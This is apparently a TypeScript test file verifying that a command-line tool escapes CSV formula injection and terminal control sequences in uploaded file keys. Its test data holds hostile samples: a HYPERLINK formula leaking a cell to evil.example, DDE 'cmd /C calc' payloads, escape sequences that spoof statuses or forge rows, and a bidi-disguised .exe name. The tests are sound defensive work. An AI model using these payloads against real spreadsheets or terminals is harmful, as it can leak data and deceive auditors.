/**
 * Exports and terminals are safe for auditors (issue 10, section 6): object keys, uploader ids and
 * reasons come from uploaders (and models), so a CSV cell must not become a spreadsheet formula and
 * a table cell must not drive the terminal.
 */
import { describe, expect, it } from 'vitest';
import { escapeControl, renderCsv, renderTable } from '../../cli/output.ts';

/** A minimal RFC 4180 reader, to check what a spreadsheet would see in each cell. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(cell), (cell = '');
    else if (c === '\n') row.push(cell), rows.push(row), (row = []), (cell = '');
    else cell += c;
  }
  row.push(cell);
  rows.push(row);
  return rows;
}

describe('renderCsv: CSV injection (OWASP)', () => {
  const dangerous = [
    '=1+1',
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    '+41 means nothing',
    '-2+3+cmd|\' /C calc\'!A0',
    '@SUM(1+1)*cmd|\' /C calc\'!A0',
    '\t=1+1',
    '\r=1+1',
  ];

  it.each(dangerous)('a text cell starting with a formula character is prefixed with a quote: %j', (value) => {
    const csv = renderCsv([{ key: value, uploader: value, n: 1 }], ['key', 'uploader', 'n']);
    const [header, row] = parseCsv(csv);
    expect(header).toEqual(['key', 'uploader', 'n']);
    expect(row).toEqual([`'${value}`, `'${value}`, '1']);
  });

  it('keys as uploaders write them: commas, quotes and newlines stay in one cell, and still cannot start a formula', () => {
    const key = 'uploads/eve/=cmd|"/C calc",x\n=2+2.jpg';
    const csv = renderCsv([{ key: `=${key}`, status: 'REJECTED' }], ['key', 'status']);
    expect(parseCsv(csv)[1]).toEqual([`'=${key}`, 'REJECTED']);
  });

  it('ordinary text and numbers are unchanged (a negative number is not a formula)', () => {
    const csv = renderCsv([{ key: 'uploads/alice/a-b=c.jpg', confidence: -3.5, cost: 0.001, reason: 'Explicit 92.7% ≥ reject 80', empty: undefined }], [
      'key',
      'confidence',
      'cost',
      'reason',
      'empty',
    ]);
    expect(csv).toBe('key,confidence,cost,reason,empty\nuploads/alice/a-b=c.jpg,-3.5,0.001,Explicit 92.7% ≥ reject 80,');
  });
});

describe('renderTable: control characters are shown, not obeyed', () => {
  const ESC = '\u001b';
  const keys = {
    colour: `uploads/eve/${ESC}[31mred${ESC}[0m.jpg`,
    clear: `uploads/eve/${ESC}[2J${ESC}[H.jpg`,
    title: `uploads/eve/${ESC}]0;you have been pwned\u0007.jpg`,
    hyperlink: `uploads/eve/${ESC}]8;;http://evil.example${ESC}\\ok.jpg${ESC}]8;;${ESC}\\`,
    overwrite: 'uploads/eve/REJECTED\rAPPROVED.jpg',
    newline: 'uploads/eve/a.jpg\nuploads/alice/fake-row.jpg  APPROVED',
    c1: 'uploads/eve/\u009b31mcsi.jpg',
    bidi: 'uploads/eve/\u202egpj.exe',
  };

  it('no control character reaches the terminal; each is escaped visibly', () => {
    const rows = Object.entries(keys).map(([name, key]) => ({ key, status: name }));
    const out = renderTable(rows, ['key', 'status']);
    expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(out.split('\n')).toHaveLength(rows.length + 1);
    expect(out).toContain('uploads/eve/\\u001b[31mred\\u001b[0m.jpg');
    expect(out).toContain('uploads/eve/\\u001b]0;you have been pwned\\u0007.jpg');
    expect(out).toContain('uploads/eve/REJECTED\\u000dAPPROVED.jpg');
    expect(out).toContain('uploads/eve/a.jpg\\u000auploads/alice/fake-row.jpg  APPROVED');
    expect(out).toContain('uploads/eve/\\u009b31mcsi.jpg');
    expect(out).toContain('uploads/eve/\\u202egpj.exe');
  });

  it('columns line up on the escaped text', () => {
    const rows = [
      { key: keys.colour, status: 'APPROVED', uploader: 'eve' },
      { key: 'uploads/alice/plain.jpg', status: 'REJECTED', uploader: `al${ESC}[8mice` },
      { key: keys.title, status: 'REVIEW', uploader: 'bob' },
    ];
    const lines = renderTable(rows, ['key', 'status', 'uploader']).split('\n');
    const statusAt = lines[0]!.indexOf('STATUS');
    const uploaderAt = lines[0]!.indexOf('UPLOADER');
    expect(lines[1]!.indexOf('APPROVED')).toBe(statusAt);
    expect(lines[2]!.indexOf('REJECTED')).toBe(statusAt);
    expect(lines[3]!.indexOf('REVIEW')).toBe(statusAt);
    expect(lines[2]!.indexOf('al\\u001b[8mice')).toBe(uploaderAt);
    // The widest key decides the column: its escaped length, plus the two-space gap.
    expect(statusAt).toBe(escapeControl(keys.title).length + 2);
  });

  it('ordinary text, including non-ASCII, is unchanged', () => {
    expect(escapeControl('uploads/zoë/été 2026 — 東京.jpg')).toBe('uploads/zoë/été 2026 — 東京.jpg');
    expect(renderTable([{ key: 'uploads/zoë/a.jpg', status: 'APPROVED' }], ['key', 'status'])).toBe('KEY                STATUS\nuploads/zoë/a.jpg  APPROVED');
  });
});
